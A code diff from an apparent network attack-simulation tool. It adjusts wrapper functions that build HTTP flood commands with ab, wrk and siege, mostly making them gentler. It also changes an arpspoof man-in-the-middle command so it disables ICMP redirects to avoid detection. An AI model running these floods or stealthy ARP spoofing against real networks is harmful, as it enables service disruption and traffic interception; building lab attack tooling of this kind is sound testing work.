@@ -310,8 +310,9 @@ def own_http(
 
 
 @tool("flood.http", package="apache2-utils")
-def ab(s: Strike, *, rate: float = 100.0, clients: int = 20, keep: bool = False) -> list[str]:
-    """ApacheBench. It knows no pace: `rate` bounds the number of requests."""
+def ab(s: Strike, *, rate: float = 60.0, clients: int = 3, keep: bool = False) -> list[str]:
+    """ApacheBench. It knows no pace: `rate` bounds the number of requests, few clients their speed."""
+    count = str(min(1200, s.count(rate)))
     return [
         "ab",
         "-q",
@@ -319,7 +320,7 @@ def ab(s: Strike, *, rate: float = 100.0, clients: int = 20, keep: bool = False)
         "-s",
         "5",
         "-n",
-        str(min(2500, s.count(rate))),
+        count,
         "-c",
         str(clients),
         *(["-k"] if keep else []),
@@ -328,13 +329,13 @@ def ab(s: Strike, *, rate: float = 100.0, clients: int = 20, keep: bool = False)
 
 
 @tool("flood.http", package="wrk")
-def wrk(s: Strike, *, clients: int = 3) -> list[str]:
-    """wrk at full speed for at most 8 seconds with few connections."""
+def wrk(s: Strike) -> list[str]:
+    """wrk on one connection at a time for at most five seconds: it knows no pace."""
     return [
         "wrk",
         "-t1",
-        f"-c{min(clients, 10)}",
-        f"-d{int(min(8, s.seconds))}s",
+        "-c1",
+        f"-d{int(min(5, s.seconds))}s",
         "-H",
         "Connection: close",
         f"http://{s.address}/",
@@ -342,13 +343,13 @@ def wrk(s: Strike, *, clients: int = 3) -> list[str]:
 
 
 @tool("flood.http", package="siege")
-def siege(s: Strike, *, clients: int = 10) -> list[str]:
-    """siege in benchmark mode."""
+def siege(s: Strike, *, clients: int = 8, pause: float = 0.1) -> list[str]:
+    """siege: clients that each wait up to `pause` seconds between requests."""
     return [
         "siege",
-        "-b",
         "-q",
         f"-c{clients}",
+        f"-d{pause}",
         f"-t{int(min(20, s.seconds))}S",
         f"http://{s.address}/api/state",
     ]
@@ -635,11 +636,13 @@ def own_arp_spoof(
 
 @tool("spoof.arp", package="dsniff", reach="mac")
 def arpspoof(s: Strike, *, both: bool = True) -> list[str]:
-    """dsniff's arpspoof, with the kernel as relay."""
+    """dsniff's arpspoof, with the kernel as relay, which is told not to give the game away by redirects."""
+    settings = "/proc/sys/net/ipv4"
+    quiet = f"echo 1 >{settings}/ip_forward; for i in all eth0; do echo 0 >{settings}/conf/$i/send_redirects; done"
     return [
         "sh",
         "-c",
-        f"echo 1 >/proc/sys/net/ipv4/ip_forward; exec timeout -s INT {int(s.seconds)} arpspoof -i eth0 -t {s.address} {'-r ' if both else ''}{s.world.host('gateway').address} 2>/dev/null",
+        f"{quiet}; exec timeout -s INT {int(s.seconds)} arpspoof -i eth0 -t {s.address} {'-r ' if both else ''}{s.world.host('gateway').address} 2>/dev/null",
     ]
 
 
